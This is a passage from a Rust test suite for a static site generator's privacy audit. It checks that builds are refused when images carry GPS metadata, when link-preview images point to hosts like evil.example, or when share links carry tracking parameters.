        only("error: /foto.heic carries location data (HEIF): metadata naming a position (e:GPSLatitude); metadata naming a position (e:GPSLongitude)", "static/foto.heic"),
    ),
    case!(
        "gps-in-tiff-in-a-bundle",
        [("content/posts/b/index.md", Body::Text("---\ntitle: B\ndate: 2024-01-03\n---\n![Karte](karte.tiff)\n")),
            ("content/posts/b/karte.tiff", Body::Made(tiff_with_gps))],
        fails("error: /posts/b/karte.tiff carries location data (TIFF)", "content/posts/b/karte.tiff"),
    ),
    case!(
        "damaged-exif-in-tiff",
        [("static/kaputt.tif", Body::Made(tiff_damaged))],
        only("error: /kaputt.tif (TIFF) cannot be checked for location data: its EXIF data cannot be read", "static/kaputt.tif"),
    ),
    case!(
        "damaged-jpeg",
        [("static/kaputt.jpg", Body::Made(jpeg_cut_off))],
        only("error: /kaputt.jpg cannot be published without its metadata: it is a damaged JPEG file (at byte", "static/kaputt.jpg"),
    ),
    case!(
        "keep-metadata-of-a-missing-file",
        [config!("privacy:\n  keep_metadata: [static/fehlt.jpg]\n")],
        only("error: keep_metadata names `static/fehlt.jpg`, which does not exist", "echt.yaml:7:19"),
    ),
    // Link previews: the picture a preview shows is one of the site's own
    // files, whatever a theme writes (no reader's browser loads it, but
    // every program that makes a preview does).
    case!(
        "og-image-on-another-host",
        [head!(r#"<meta property="og:image" content="https://evil.example/vorschau.png">"#)],
        fails("error: `<meta og:image>` names a file on another host, `evil.example`", "templates/post.html:6:36"),
    ),
    case!(
        "twitter-image-on-another-host",
        [head!(r#"<meta name="twitter:image" content="//evil.example/karte.png">"#)],
        fails("error: `<meta twitter:image>` names a file on another host, `evil.example`", "templates/post.html:6:37"),
    ),
    case!(
        "og-image-in-any-case-and-spelling",
        [head!(r#"<meta property="OG:Image:Secure_URL" content=" HTTPS://Evil.Example/v.png ">"#)],
        fails("error: `<meta og:image:secure_url>` names a file on another host, `evil.example`", "templates/post.html:6:47"),
    ),
    case!(
        "og-image-on-an-allowed-host",
        [
            config!("privacy:\n  allow_hosts: [img.example]\n"),
            head!(r#"<meta property="og:image" content="https://img.example/vorschau.png">"#),
        ],
        fails("error: `<meta og:image>` names a file on another host, `img.example`", "templates/post.html:6:36"),
    ),
    case!(
        "og-image-missing-own-file",
        [head!(r#"<meta property="og:image" content="https://example.org/fehlt.png">"#)],
        fails("error: link to `/fehlt.png`, which this site does not have", "templates/post.html:6:36"),
    ),
    case!(
        "og-image-own-file",
        [head!(r#"<meta property="og:image" content="https://example.org/bild.png"><meta property="og:image:width" content="1">"#)],
        BUILDS,
    ),
    // Share links: a share address echt.yaml names must not carry a
    // tracking parameter; the links echt makes (mailto:, query strings
    // with the post's encoded address) trip nothing.
    case!(
        "share-address-with-tracking",
        [config!("share:\n  - name: Netz\n    url: \"https://teilen.example/s?u={url}&utm_source=blog\"\n")],
        only("error: this share address carries the tracking parameter `utm_source`", "echt.yaml:8:11"),
    ),
    case!(
        "share-address-with-encoded-tracking",
        [config!("share:\n  - name: Netz\n    url: \"https://teilen.example/s?u={url}#UTM%5FMedium=x\"\n")],
        only("error: this share address carries the tracking parameter `UTM_Medium`", "echt.yaml:8:11"),
    ),
    case!(
        "share-links-build",
        [config!("share: [email, link, {mastodon: social.example}, {friendica: f.example}, {name: Netz, url: \"https://teilen.example/s?u={url}&t={title}&lang=de\"}]\n")],
        BUILDS,
    ),
];

/// The cases the audit gets wrong today, each with what it does instead:
/// kept out of `cargo test` until the audit handles them, then moved to
/// [`CASES`]. The browser test shows them to Chromium all the same.
pub(crate) const FAILING: &[Case] = &[];

/// UTF-16 SVG with its byte order mark.
fn svg_utf16() -> Vec<u8> {
    utf16("<svg xmlns=\"http://www.w3.org/2000/svg\">\n<image href=\"https://img.example/utf-16.png\"/>\n</svg>\n")
}

const CSS_WITH_URL: &str = "p {\n  background: url(https://evil.example/utf-16.png);\n}\n";

/// A UTF-16 stylesheet (little endian) with its byte order mark.
fn css_utf16() -> Vec<u8> {
    utf16(CSS_WITH_URL)
}

/// A UTF-16 stylesheet (big endian) with its byte order mark.
fn css_utf16_big_endian() -> Vec<u8> {
    [0xFE, 0xFF]
        .into_iter()
        .chain(CSS_WITH_URL.encode_utf16().flat_map(u16::to_be_bytes))
        .collect()
}

/// A case's site in a temporary folder: echt.yaml, a harmless post,
/// static/bild.png, and the case's files.
pub(crate) fn site(case: &Case) -> TestSite {
    let mut site = TestSite::new()
        .post(
            "hallo.md",
            "---\ntitle: \"Hallo\"\ndate: 2024-01-02\n---\nHallo Welt.\n",
        )
        .bytes("static/bild.png", PNG);
    for (path, body) in case.files {
        site = site.bytes(path, &body.bytes());
    }
    site
}

/// Whether `stderr` has a diagnostic whose first line starts with
/// `headline` and whose `-->` line is `at`.
pub(crate) fn reported(stderr: &str, headline: &str, at: &str) -> bool {
    let arrow = format!("  --> {at}");
    stderr.split("\n\n").any(|block| {
        let mut lines = block.lines();
        lines.next().is_some_and(|l| l.starts_with(headline)) && lines.next() == Some(&*arrow)
    })
}

/// Where else than `at` an error with `headline` is reported, if anywhere.
fn elsewhere(stderr: &str, headline: &str, at: &str) -> Option<String> {
    stderr.split("\n\n").find_map(|block| {
        let mut lines = block.lines();
        let place = lines
            .next()
            .filter(|l| l.starts_with(headline))
            .and(lines.next())?
            .strip_prefix("  --> ")?;
        (place != at).then(|| place.to_string())
    })
}

/// Builds a case with the echt binary; what is wrong, if anything.
fn verdict(case: &Case) -> Result<(), String> {
    let built = site(case).build();
    let stderr = built.stderr();
    let success = built.out.status.success();
    let problem = match case.expect {
        _ if success == case.must_fail() => Some(if success {
            "the build succeeded".to_string()
        } else {
            "the build failed".to_string()
        }),
        Expect::Fails { headline, at }
        | Expect::Only { headline, at }
        | Expect::Notes { headline, at, .. }
            if !reported(&stderr, headline, at) =>
        {
            Some(format!("no `{headline}` at {at}"))
        }
        Expect::Only { headline, at } => {
            elsewhere(&stderr, headline, at).map(|other| format!("`{headline}` also at {other}"))
        }
        Expect::Notes { gone, .. } if !gone.is_empty() => built
            .files()
            .into_iter()
            .find(|file| {
                let bytes = std::fs::read(built.public.join(file)).unwrap_or_default();
                String::from_utf8_lossy(&bytes).contains(gone)
            })
            .map(|file| format!("`{gone}` is still in {file}")),
        Expect::Builds if stderr.contains("warning:") => Some("a warning".to_string()),
        _ => None,
    };
    match problem {
        Some(problem) => Err(format!("{problem}; echt said:\n{stderr}")),
        None => Ok(()),
    }
}

/// Runs `cases` on a few threads; the name and problem of each that does
/// not go as expected, in the catalogue's order.
fn run(cases: &[Case]) -> Vec<(&'static str, String)> {
    let next = AtomicUsize::new(0);
    let problems = Mutex::new(Vec::new());
    let workers = std::thread::available_parallelism().map_or(2, |n| n.get().min(4));
    std::thread::scope(|scope| {
        for _ in 0..workers {
            scope.spawn(|| loop {
                let i = next.fetch_add(1, Ordering::Relaxed);
                let Some(case) = cases.get(i) else { break };
                if let Err(problem) = verdict(case) {
                    problems.lock().unwrap().push((i, case.name, problem));
                }
            });
        }
    });
    let mut problems = problems.into_inner().unwrap();
    problems.sort_by_key(|(i, ..)| *i);
    problems
        .into_iter()
        .map(|(_, name, problem)| (name, problem))
        .collect()
}

#[test]
fn every_hostile_case_is_refused_where_it_was_written() {
    let problems = run(CASES);
    let shown: Vec<String> = problems
        .iter()
        .map(|(name, problem)| format!("{name}: {problem}"))
        .collect();
    assert!(
        problems.is_empty(),
        "{} of {} cases went wrong:\n\n{}",
        problems.len(),
        CASES.len(),
        shown.join("\n")
    );
}

#[test]
fn the_catalogue_is_well_formed() {
    assert!(CASES.len() > 100, "{} cases", CASES.len());
    let mut names: Vec<&str> = CASES.iter().chain(FAILING).map(|c| c.name).collect();
    for name in &names {
        assert!(
            name.len() <= 63
                && name
                    .bytes()
                    .all(|b| b.is_ascii_lowercase() || b.is_ascii_digit() || b == b'-'),
            "{name}: a host name label"
        );
    }
    names.sort_unstable();
    let before = names.len();
    names.dedup();
    assert_eq!(names.len(), before, "names must be unique");
    assert!(CASES.iter().all(|c| c.wrong.is_empty()));
    assert!(FAILING.iter().all(|c| !c.wrong.is_empty()));
}

/// Which of [`FAILING`] still go wrong (those that do not can move to
/// [`CASES`]): `cargo test known_failures -- --ignored --nocapture`.
#[test]
#[ignore = "lists the audit's known failures; run it with --ignored --nocapture"]
fn known_failures() {
    let problems = run(FAILING);
    for case in FAILING {
        match problems.iter().find(|(name, _)| *name == case.name) {
            Some((_, problem)) => println!("still wrong: {}\n  {}\n", case.name, problem),
            None => println!("handled now, move it to CASES: {}\n", case.name),
        }
    }
}
